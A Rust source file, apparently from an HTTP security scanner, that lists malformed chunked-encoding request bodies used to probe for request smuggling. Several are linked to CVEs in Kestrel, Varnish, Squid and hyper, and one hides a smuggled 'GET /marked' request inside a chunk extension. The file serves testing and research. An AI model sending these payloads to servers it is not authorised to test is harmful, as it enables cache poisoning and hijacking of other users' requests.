//! Request smuggling by chunks that only some understand.

use super::smuggling::{framed, raw};
use super::{DESYNC, FUNKY_CHUNKS};
use crate::attack::{Attack, ECHOED, Holds, Sends};

macro_rules! chunked {
    ($name:literal, $source:expr, $content:literal) => {
        framed!($name, $source, "transfer-encoding: chunked", $content)
    };
}

pub(crate) const ROWS: &[Attack] = &[
    chunked!("an extension", FUNKY_CHUNKS, "2;a=b\r\nhi\r\n0\r\n\r\n"),
    chunked!(
        "an extension of two lines",
        FUNKY_CHUNKS,
        "2;a\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a line end within an extension",
        FUNKY_CHUNKS,
        "26;\nx\r\nGET /marked HTTP/1.1\r\nhost: {host}\r\n\r\n0\r\n\r\n"
    ),
    chunked!(
        "a return within an extension",
        "CVE-2025-55315 (Kestrel)",
        "2;\rhi\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "an extension of the last chunk",
        FUNKY_CHUNKS,
        "2\r\nhi\r\n0;a=b\r\n\r\n"
    ),
    chunked!(
        "an extension with a quote left open",
        FUNKY_CHUNKS,
        "2;a=\"\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size that ends in a line feed",
        FUNKY_CHUNKS,
        "2\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size that ends in a return",
        FUNKY_CHUNKS,
        "2\rhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "data that ends in a line feed",
        "CVE-2025-47905 (Varnish)",
        "2\r\nhi\n0\r\n\r\n"
    ),
    chunked!("data that spills over", FUNKY_CHUNKS, "2\r\nhixx0\r\n\r\n"),
    chunked!("data without an end", FUNKY_CHUNKS, "2\r\nhi0\r\n\r\n"),
    chunked!(
        "a size with a sign",
        "CVE-2023-46846 (Squid)",
        "+2\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a negative size",
        "CVE-2023-46846 (Squid)",
        "-2\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size with a prefix",
        "CVE-2023-46846 (Squid)",
        "0x2\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size with a space before it",
        "CVE-2023-46846 (Squid)",
        " 2\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size with a space behind it",
        "CVE-2023-46846 (Squid)",
        "2 \r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size with an underscore",
        "CVE-2023-46846 (Squid)",
        "0_2\r\nhi\r\n0\r\n\r\n"
    ),
    chunked!(
        "a size with leading zeros",
        DESYNC,
        "0002\r\nhi\r\n0000\r\n\r\n"
    ),
    chunked!("a size of no digits", DESYNC, "\r\nhi\r\n0\r\n\r\n"),
    chunked!(
        "a size beyond 64 bits",
        "CVE-2021-32714 (hyper)",
        "f0000000000000003\r\nabc\r\n0\r\n\r\n"
    ),
    chunked!(
        "a last chunk that ends in line feeds",
        DESYNC,
        "2\r\nhi\r\n0\n\n"
    ),
    chunked!(
        "a length among the trailers",
        "RFC 9110 section 6.5.1",
        "2\r\nhi\r\n0\r\ncontent-length: 43\r\n\r\n"
    ),
    chunked!(
        "a coding among the trailers",
        "RFC 9110 section 6.5.1",
        "2\r\nhi\r\n0\r\ntransfer-encoding: chunked\r\n\r\n"
    ),
    chunked!(
        "a host among the trailers",
        "RFC 9110 section 6.5.1",
        "2\r\nhi\r\n0\r\nhost: marked\r\n\r\n"
    ),
    chunked!(
        "a trailer that is folded",
        "RFC 9112 section 5.2",
        "2\r\nhi\r\n0\r\nx: y\r\n z: 1\r\n\r\n"
    ),
];
